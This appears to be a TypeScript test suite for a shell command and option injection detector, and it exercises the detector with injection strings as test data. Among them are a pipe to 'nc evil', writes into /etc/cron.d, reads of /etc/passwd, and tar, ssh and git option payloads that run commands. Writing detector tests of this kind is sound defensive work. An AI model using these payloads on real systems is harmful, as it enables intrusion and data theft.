import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Finding, UserInput } from '../types.js';
import { SH_WORD, tokenizeShell, wordValue, SH_HEREDOC_BODY, SH_COMMENT } from '../../tokenizers/shell/index.js';
import { detectOptionInjection, detectShellInjection, optionGrade, OPT_DANGEROUS, OPT_FLAG, OPT_NONE, shellCommandNames } from './index.js';

const CORPUS = process.env.VIGIL_CORPUS ?? '/work/shared/corpus';
const haveCorpus = existsSync(`${CORPUS}/attacks/shell.jsonl`);
type Row = { payload: string; note?: string };
const load = (f: string): Row[] =>
  readFileSync(`${CORPUS}/${f}`, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Row);

const q = (...values: string[]): UserInput[] => values.map((value, i) => ({ source: 'query', path: `query.p${i}`, value }));
const detect = (cmd: string, ...values: string[]): Finding | null => detectShellInjection(cmd, q(...values));
/** Shell-quoted the way a careful app does it: '…' with ' written as '\''. */
const sq = (v: string): string => `'${v.replace(/'/g, `'\\''`)}'`;
/** Double-quoted with \ " $ ` escaped. */
const dq = (v: string): string => `"${v.replace(/[\\"$`]/g, (c) => '\\' + c)}"`;

function assertInjection(cmd: string, value: string, syntax?: RegExp): void {
  const f = detect(cmd, value);
  assert.ok(f, `expected a finding for ${JSON.stringify(value)} in ${JSON.stringify(cmd)}`);
  assert.equal(f.rule, 'shell_injection', JSON.stringify(f));
  assert.equal(f.threatLevel, 'critical');
  assert.ok(f.confidence >= 0.9);
  assert.equal(f.input?.value, value);
  if (syntax) assert.match(String(f.detail?.syntax), syntax);
}

// ---------------------------------------------------------------------------
// Injection

test('operators, substitutions, expansions, redirections, newlines and comments from input', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['ls x; id', 'x; id', /operator ';'/],
    ['ls x && id', 'x && id', /operator '&&'/],
    ['ls x || id', 'x || id', /'\|\|'/],
    ['ls x | nc evil 1', 'x | nc evil 1', /operator '\|'/],
    ['ls x & sleep 9', 'x & sleep 9', /operator '&'/],
    ['ls (id)', '(id)', /subshell/],
    ['ls $(id)', '$(id)', /command substitution \$\(/],
    ['ls `id`', '`id`', /command substitution `/],
    ['ls "$(id)"', '$(id)', /command substitution/],
    ['ls "a`id`"', 'a`id`', /command substitution `/],
    ['ls $((1+2))', '$((1+2))', /arithmetic/],
    ['ls ${HOME}', '${HOME}', /parameter expansion \$\{/],
    ['ls $HOME', '$HOME', /parameter expansion \$NAME/],
    ['cat /etc${IFS}passwd', '/etc${IFS}passwd', /parameter/],
    ['ls x > /etc/cron.d/job', 'x > /etc/cron.d/job', /redirection '>'/],
    ['ls x 2>&1', 'x 2>&1', /redirection '2>&'/],
    ['ls x <<<y', 'x <<<y', /redirection '<<<'/],
    ['ls x &>/tmp/o', 'x &>/tmp/o', /redirection '&>'/],
    ['ls <(id)', '<(id)', /process substitution/],
    ['ping -c 1 127.0.0.1\nid', '127.0.0.1\nid', /newline/],
    ['ls x #-la', 'x #-la', /comment/],
    ["ls 'x'; id; ''", "x'; id; '", /operator ';'/],
    ['ls "x"; id; ""', 'x"; id; "', /operator ';'/],
    ["ls 'x' '-y'", "x' '-y", /quote ' ending/],
    ['ls "x" "y"', 'x" "y', /quote " ending/],
    ["ls 'a'b'", "a'b", /quote/],
    ['ls x\\', 'x\\', /./], // placeholder replaced below
  ];
  cases.pop();
  for (const [cmd, value, syntax] of cases) assertInjection(cmd, value, syntax);
});

test('input that ends with a backslash escapes the application quote after it', () => {
  // echo "${a}" "${b}" with a = x\  — the app's closing quote is now escaped
  assertInjection('echo "x\\" "y"', 'x\\', /backslash/);
});

test('input inside the application\'s own substitution or here-document', () => {
  assertInjection('echo $(basename x; id)', 'x; id', /operator ';'/);
  assertInjection('echo "$(basename "$(cat x | id)")"', 'x | id', /operator '\|'/);
  assertInjection('echo $(basename x); id; (y)', 'x); id; (y', /end of command substitution|operator/);
  assertInjection('echo ${X:-$(id)}', '$(id)', /command substitution/);
  assertInjection('echo `basename x; id`', 'x; id', /operator ';'/);
  assertInjection('cat <<EOF\nhello $(id)\nEOF', 'hello $(id)', /command substitution/);
  assertInjection('cat <<EOF\nx\nEOF\nid\nEOF', 'x\nEOF\nid', /./);
  assert.equal(detect('cat <<EOF\nhello world; a | b\nEOF', 'hello world; a | b'), null);
  assert.equal(detect("cat <<'EOF'\n$(id)\nEOF", '$(id)'), null);
  assert.equal(detect('ls x # a comment; with $(stuff)', 'a comment; with $(stuff)'), null);
});

test('single syntax characters count when every occurrence is syntax', () => {
  const tick = detect('echo `id`', '`');
  assert.ok(tick);
  assert.equal(tick.rule, 'shell_injection');
  assert.equal(tick.threatLevel, 'high');
  assert.equal(tick.confidence, 0.7);
  // cmd ${a} ${b} with a = ';' and b = 'id' (b alone is plain text)
  assert.ok(detect('cmd ; id', ';', 'id'));
  assert.ok(detect('cmd \n id', '\n'));
  assert.ok(detect('echo $HOME', '$'));
  // the same character quoted by the app somewhere: that occurrence can be the input's
  assert.equal(detect("cut -d';' -f1 data.csv; ls", ';'), null);
  assert.equal(detect("sort -t '|' -k2 f | uniq", '|'), null);
  // a one-character input that is not syntax is never examined
  assert.equal(detect('ls a*', '*'), null);
});

test('patterns and ~ are reported with medium threat and low confidence', () => {
  for (const [cmd, value, what] of [
    ['ls what?', 'what?', /glob \?/],
    ['ls /etc/pass*', '/etc/pass*', /glob \*/],
    ['cat /et[c]/passwd', '/et[c]/passwd', /glob \[/],
    ['ls ~root', '~root', /tilde/],
    ['ls {cat,/etc/passwd}', '{cat,/etc/passwd}', /brace/],
  ] as Array<[string, string, RegExp]>) {
    const f = detect(cmd, value);
    assert.ok(f, cmd);
    assert.equal(f.rule, 'shell_injection');
    assert.equal(f.threatLevel, 'medium');
    assert.equal(f.confidence, 0.5);
    assert.match(String(f.detail?.syntax), what);
  }
  // quoted, they are text
  assert.equal(detect("ls 'what?'", 'what?'), null);
  assert.equal(detect('ls "a*b"', 'a*b'), null);
  assert.equal(detect('ls x~y', 'x~y'), null);
});

test('strongest finding wins across inputs; the finding names its input', () => {
  const f = detectShellInjection('ls what? x; id', q('what?', 'x; id'));
  assert.equal(f?.input?.value, 'x; id');
  assert.equal(f?.confidence, 0.95);
});

test('quotes and blanks that end the app quoting split its word: `" "` in rm -rf "/tmp/<name>/cache"', () => {
  const f = detect('rm -rf "/tmp/" "/cache"', '" "');
  assert.equal(f?.rule, 'shell_injection');
  assert.match(String(f?.description), /quote/);
});

// ---------------------------------------------------------------------------
// Not injection

test('word splitting alone, quoted arguments and inputs the app did not use are not injection', () => {
  const none: Array<[string, string]> = [
    ['echo hello world', 'hello world'],
    ['convert my photo.jpg out.png', 'my photo.jpg'],
    ['convert "my photo.jpg" out.png', 'my photo.jpg'],
    ["grep -r 'a; b | c && $(d) `e`' /srv", 'a; b | c && $(d) `e`'],
    ['grep -r "a; b | c" /srv', 'a; b | c'],
    [`echo ${sq("O'Brien; rm -rf /")}`, "O'Brien; rm -rf /"],
    [`echo ${dq('say "hi" $(id) `x` \\n')}`, 'say "hi" $(id) `x` \\n'],
    ['ls "hello"', '"hello"'],
    ["ls 'a b'", "'a b'"],
    ['git log --oneline', '--oneline'],
    ["echo '--help me please'", '--help me please'],
    ['echo "-rf is short for recursive force"', '-rf is short for recursive force'],
    ["ls -- '-dash.txt'", '-dash.txt'],
    ["cat 'naïve café.txt'", 'naïve café.txt'],
    ["cat 'report..final.pdf'", 'report..final.pdf'],
    ["cat 'Ünïcødé 文件.txt'", 'Ünïcødé 文件.txt'],
    ['ls x', 'not in the command; id'],
    ['ls /srv/a.b,c:d@e+f=g', 'a.b,c:d@e+f=g'],
    ['ls x', ''],
    // The app escaped ` "`; its own separator and opening quote spell the raw input (found by the quoting property).
    [`echo ${dq(' "')} /srv`, ' "'],
    [`echo ${dq(' " ')} /srv`, ' " '],
  ];
  for (const [cmd, value] of none) assert.equal(detect(cmd, value), null, `${JSON.stringify(value)} in ${JSON.stringify(cmd)}`);
  assert.equal(detectShellInjection('ls', []), null);
  assert.equal(detectShellInjection('', q('x;y')), null);
});

// ---------------------------------------------------------------------------
// Option injection

test('optionGrade: options with values and dangerous flags, not numbers or prose', () => {
  const grades: Array<[string, number]> = [
    ['--checkpoint-action=exec=id', OPT_DANGEROUS],
    ['--output=/etc/cron.d/x', OPT_DANGEROUS],
    ['-oProxyCommand=id', OPT_DANGEROUS],
    ['-o /tmp/x; id', OPT_DANGEROUS],
    ['--upload-pack=touch /tmp/pwned', OPT_DANGEROUS],
    ['-f/etc/passwd', OPT_DANGEROUS],
    ['-delete', OPT_DANGEROUS],
    ['-exec', OPT_DANGEROUS],
    ['--oneline', OPT_FLAG],
    ['-la', OPT_FLAG],
    ['-', OPT_NONE],
    ['--', OPT_NONE],
    ['-42', OPT_NONE],
    ['-0.001', OPT_NONE],
    ['- list item', OPT_NONE],
    ['--verbose flag in docs', OPT_NONE],
    ['-rf is short for recursive force', OPT_NONE],
    ['--help; id', OPT_NONE],
    ['-exec id {} ;', OPT_NONE],
    ['x--y', OPT_NONE],
  ];
  for (const [v, g] of grades) assert.equal(optionGrade(v), g, v);
});

test('a new argument starting with an option from input, unless after --', () => {
  const opt = (cmd: string, value: string): void => {
    const f = detect(cmd, value);
    assert.ok(f, cmd);
    assert.equal(f.rule, 'shell_option_injection');
    assert.equal(f.threatLevel, 'medium');
    assert.equal(f.confidence, 0.6);
  };
  // Options whose value is a command the program runs: command injection, blocked by default.
  const runs = (cmd: string, value: string): void => {
    const f = detect(cmd, value);
    assert.equal(f?.rule, 'shell_injection', cmd);
    assert.equal(f?.threatLevel, 'critical');
    assert.equal(f?.confidence, 0.9);
  };
  runs('tar -cf x.tar --checkpoint-action=exec=id', '--checkpoint-action=exec=id');
  runs("tar -cf x.tar '--checkpoint-action=exec=id'", '--checkpoint-action=exec=id');
  runs('ssh "-oProxyCommand=id" host', '-oProxyCommand=id');
  opt('curl --output=/tmp/x https://example.com', '--output=/tmp/x');
  opt('rsync -e sh src dst', '-e sh'); // split into -e and its argument
  opt('find /srv -delete', '-delete');
  assert.equal(detect('tar -cf x.tar -- --checkpoint-action=exec=id', '--checkpoint-action=exec=id'), null);
  assert.equal(detect("tar -cf x.tar -- '--checkpoint-action=exec=id'", '--checkpoint-action=exec=id'), null);
  // the app wrote the dash; the input only follows it
  assert.equal(detect('git log --format=%H', '%H'), null);
  // the value of an option the app wrote bare
  assert.equal(detect('grep -e --x=1 f', '--x=1'), null);
  assert.equal(detect("git commit -m '--fixup=abc'", '--fixup=abc'), null);
  assert.equal(detect('grep --regexp --x=1 f', '--x=1'), null);
  opt('ls -la --x=1', '--x=1'); // a cluster is not an option waiting for its value
});

test('detectOptionInjection: argv without a shell', () => {
  const f = detectOptionInjection('tar', ['-cf', 'x.tar', '--checkpoint-action=exec=id'], q('--checkpoint-action=exec=id'));
  assert.equal(f?.rule, 'shell_injection');
  assert.equal(f?.threatLevel, 'critical');
  assert.equal(f?.detail?.argument, 2);
  const plain = detectOptionInjection('curl', ['--output=/tmp/x', 'https://example.com'], q('--output=/tmp/x'));
  assert.equal(plain?.rule, 'shell_option_injection');
  assert.equal(plain?.threatLevel, 'medium');
  assert.equal(detectOptionInjection('tar', ['-cf', 'x.tar', '--use-compress-program=touch /tmp/m'], q('--use-compress-program=touch /tmp/m'))?.rule, 'shell_injection');
  assert.equal(detectOptionInjection('curl', ['--ttl=5', 'x'], q('--ttl=5'))?.rule, 'shell_option_injection');
  assert.ok(detectOptionInjection('ssh', ['-oProxyCommand=id', 'host'], q('-oProxyCommand=id')));
  assert.ok(detectOptionInjection('git', ['clone', '--upload-pack=touch /tmp/pwned', 'repo'], q('--upload-pack=touch')));
  assert.equal(detectOptionInjection('tar', ['-cf', 'x.tar', '--', '--checkpoint-action=exec=id'], q('--checkpoint-action=exec=id')), null);
  assert.equal(detectOptionInjection('git', ['log', '--oneline'], q('--oneline')), null);
  assert.equal(detectOptionInjection('grep', ['-e', 'a; b $(c)', 'f'], q('a; b $(c)')), null);
  assert.equal(detectOptionInjection('cmd', ['-42', '-', '--', '--verbose flag in docs'], q('-42', '-', '--', '--verbose flag in docs')), null);
  assert.equal(detectOptionInjection('tar', ['--to-command=x'], q('foo')), null);
  // a shell run through argv: its -c string is a shell line
  const sh = detectOptionInjection('/bin/sh', ['-c', 'ls x; id'], q('x; id'));
  assert.equal(sh?.rule, 'shell_injection');
  assert.equal(detectOptionInjection('/bin/bash', ['-lc', "ls 'x; id'"], q('x; id')), null);
});

test('argument-injection lines of the corpus', { skip: !haveCorpus && 'corpus not found' }, () => {
  const rows = load('attacks/shell.jsonl').filter((r) => r.note?.startsWith('argument/option injection'));
  assert.equal(rows.length, 6);
  const expectArgv: Record<string, boolean> = {
    '--help; id': false, // no program takes `--help; id` as an option
    '-o /tmp/x; id': true,
    '--output=/etc/cron.d/x': true,
    '-oProxyCommand=id': true,
    '--upload-pack=touch /tmp/pwned': true,
    '-exec id {} ;': false, // find rejects one argument `-exec id {} ;`
  };
  for (const { payload } of rows) {
    // unquoted: every line is injection or option injection
    const un = detect(`tar -cf x.tar ${payload}`, payload);
    assert.ok(un, payload);
    // single-quoted (one word) and argv: as expected above
    const quoted = detect(`tar -cf x.tar '${payload}'`, payload);
    assert.equal(quoted !== null, expectArgv[payload], `quoted ${payload}`);
    if (quoted) assert.ok(quoted.rule === 'shell_option_injection' || (quoted.rule === 'shell_injection' && String(quoted.detail?.syntax).includes('option')), JSON.stringify(quoted));
    const argv = detectOptionInjection('tar', ['-cf', 'x.tar', payload], q(payload));
    assert.equal(argv !== null, expectArgv[payload], `argv ${payload}`);
  }
});

// ---------------------------------------------------------------------------
// Command names

test('shellCommandNames', () => {
  assert.deepEqual(shellCommandNames('ls -la /tmp'), ['ls']);
  assert.deepEqual(shellCommandNames('cd /srv && /usr/bin/grep -r x . | sort -u > out; echo "$(date)"'), ['cd', '/usr/bin/grep', 'sort', 'echo', 'date']);
  assert.deepEqual(shellCommandNames('LANG=C git log 2>/dev/null'), ['git']);
  assert.deepEqual(shellCommandNames(''), []);
});

// ---------------------------------------------------------------------------
// Corpus

/**
 * The independent criterion: the command's structure (operators,
 * redirections, comments, here-documents; substitutions, expansions, patterns
 * and unterminated quotes inside words; not the number of words) differs
 * from the same template filled with a harmless value.
 */
function structure(cmd: string): string {
  const out: string[] = [];
  for (const t of tokenizeShell(cmd)) {
    if (t.kind === SH_WORD) {
      let w = 'W';
      const x = t.expansions ?? [];
      for (let k = 0; k < x.length; k += 3) w += ` x${x[k] & 0xff}`;
      const g = t.globs ?? [];
      for (let k = 0; k < g.length; k += 2) w += ` g${g[k]}`;
      if (t.flags & 2) w += ' unterminated';
      if (w !== 'W' || out[out.length - 1] !== 'W') out.push(w);
    } else if (t.kind === SH_HEREDOC_BODY || t.kind === SH_COMMENT) {
      out.push(`k${t.kind}`);
    } else {
      out.push(cmd.slice(t.start, t.end));
    }
  }
  return out.join(' · ');
}

const SHELL_TEMPLATES: Array<[string, (p: string) => string]> = [
  ['ls ${p}', (p) => `ls ${p}`],
  ['ls "${p}"', (p) => `ls "${p}"`],
  ["ls '${p}'", (p) => `ls '${p}'`],
  ['ping -c 1 ${p}', (p) => `ping -c 1 ${p}`],
  ['grep foo ${p}', (p) => `grep foo ${p}`],
];

test('corpus: attacks/shell.jsonl detection rate per template over payloads that change the command', { skip: !haveCorpus && 'corpus not found' }, () => {
  const rows = load('attacks/shell.jsonl');
  for (const [name, build] of SHELL_TEMPLATES) {
    const harmless = structure(build('x'));
    let applicable = 0;
    let detected = 0;
    let extra = 0;
    const missed: string[] = [];
    for (const { payload } of rows) {
      const cmd = build(payload);
      const f = detect(cmd, payload);
      if (structure(cmd) === harmless) {
        if (f && f.rule === 'shell_injection') extra++;
        continue;
      }
      applicable++;
      if (f) detected++;
      else missed.push(payload);
    }
    const rate = detected / applicable;
    console.log(`shell ${name}: ${detected}/${applicable} detected (${(rate * 100).toFixed(1)}%); ${extra} more flagged among the ${rows.length - applicable} that leave the structure alone`);
    if (missed.length) console.log(`  missed: ${missed.map((m) => JSON.stringify(m)).join(', ')}`);
    assert.ok(applicable >= 20, `${name}: ${applicable} applicable`);
    assert.ok(rate >= 0.95, `${name}: ${detected}/${applicable}`);
  }
});

test('corpus: benign shell and general values, correctly quoted or as argv, produce no findings', { skip: !haveCorpus && 'corpus not found' }, () => {
  const rows = [...load('benign/shell.jsonl'), ...load('benign/general.jsonl')];
  const fps: string[] = [];
  for (const { payload } of rows) {
    const inputs = q(payload);
    const cmds = [
      `grep -ri ${sq(payload)} /srv/data`,
      `convert ${sq(payload)} out.png`,
      `echo ${sq(payload)} | mail -s ${sq('Subject: ' + payload)} ops@example.com`,
      `grep -ri ${dq(payload)} /srv/data`,
    ];
    for (const cmd of cmds) {
      const f = detectShellInjection(cmd, inputs);
      if (f) fps.push(`${JSON.stringify(cmd)} → ${f.rule} ${f.detail?.syntax}`);
    }
    const a = detectOptionInjection('grep', ['-ri', payload, '/srv/data'], inputs);
    if (a) fps.push(`argv ${JSON.stringify(payload)} → ${a.rule} ${a.detail?.syntax}`);
  }
  console.log(`shell benign: ${fps.length} findings over ${rows.length} values × 5 placements`);
  if (fps.length) console.log(`  offenders:\n  ${fps.join('\n  ')}`);
  assert.deepEqual(fps, []);
});

test('corpus: benign values unquoted are at most patterns or options, never shell syntax when they have none', { skip: !haveCorpus && 'corpus not found' }, () => {
  // Informational for the vulnerable unquoted template: values without shell
  // metacharacters must not be reported as shell_injection.
  const rows = load('benign/shell.jsonl');
  const flagged: string[] = [];
  for (const { payload } of rows) {
    if (/[;&|`$<>()\n#'"\\*?[~{]/.test(payload)) continue;
    const f = detect(`ls ${payload}`, payload);
    if (f && f.rule === 'shell_injection') flagged.push(payload);
  }
  assert.deepEqual(flagged, []);
});

// ---------------------------------------------------------------------------
// Properties and robustness

const shellChars = fc.constantFrom(...`ab -_./=*?[]{},~#;|&<>()$\`'"\\ \t\n0@é`.split(''), '$(', '${', '<<', '\nEOF\n');
const shellish = fc.string({ unit: shellChars, maxLength: 60 });

test('property: never throws on arbitrary commands and inputs', () => {
  fc.assert(
    fc.property(shellish, shellish, shellish, (prefix, value, suffix) => {
      const cmd = prefix + value + suffix;
      const f = detectShellInjection(cmd, q(value, prefix, suffix.slice(0, 3)));
      if (f) assert.ok(f.rule === 'shell_injection' || f.rule === 'shell_option_injection');
      shellCommandNames(cmd);
      detectOptionInjection('sh', ['-c', cmd, value], q(value));
    }),
    { numRuns: 3000 },
  );
});

test('property: a correctly quoted argument is never shell syntax', () => {
  fc.assert(
    fc.property(fc.oneof(shellish, fc.string({ unit: 'grapheme' })), fc.constantFrom('echo', 'grep -r', 'ls -l --'), fc.boolean(), (value, head, single) => {
      const f = detect(`${head} ${single ? sq(value) : dq(value)} /srv`, value);
      // Quoting stops shell syntax; an option (even one that runs a command) is still an option.
      assert.ok(f === null || f.rule === 'shell_option_injection' || String(f.detail?.syntax).includes('option'), JSON.stringify(f));
    }),
    { numRuns: 5000 },
  );
});

test('property: an input that does not occur in the command is never a finding', () => {
  fc.assert(
    fc.property(shellish, shellish, (cmd, value) => {
      fc.pre(!cmd.includes(value));
      assert.equal(detect(cmd, value), null);
    }),
    { numRuns: 2000 },
  );
});

test('property: injecting `; id` into an unquoted argument is always found', () => {
  const word = fc.stringMatching(/^[a-z0-9._/-]{1,12}$/);
  fc.assert(
    fc.property(word, fc.constantFrom('; ', ' && ', ' | ', '\n', ' || ', '$(', '`'), (w, sep) => {
      const value = `${w}${sep}id${sep === '$(' ? ')' : sep === '`' ? '`' : ''}`;
      const f = detect(`convert ${value} out.png`, value);
      assert.equal(f?.rule, 'shell_injection', value);
    }),
    { numRuns: 500 },
  );
});

test('a 1,000,000-character adversarial command and input are handled', () => {
  const n = 1_000_000;
  for (const piece of ['$(', '"$(', "'", '`', ';', 'a ']) {
    const value = piece.repeat(Math.ceil(n / piece.length)).slice(0, n - 20);
    const cmd = `echo $(cat ${value})`;
    detectShellInjection(cmd, q(value, piece.trim() || piece, 'a'));
    shellCommandNames(cmd);
  }
  const f = detect('ls ' + 'a;'.repeat(500_000), 'a;'.repeat(500_000));
  assert.equal(f?.rule, 'shell_injection');
});

test('word values the detector relies on', () => {
  const src = `tar '--to-command=sh' "-x"y`;
  const ws = tokenizeShell(src).filter((t) => t.kind === SH_WORD);
  assert.deepEqual(ws.map((t) => wordValue(src, t)), ['tar', '--to-command=sh', '-xy']);
});
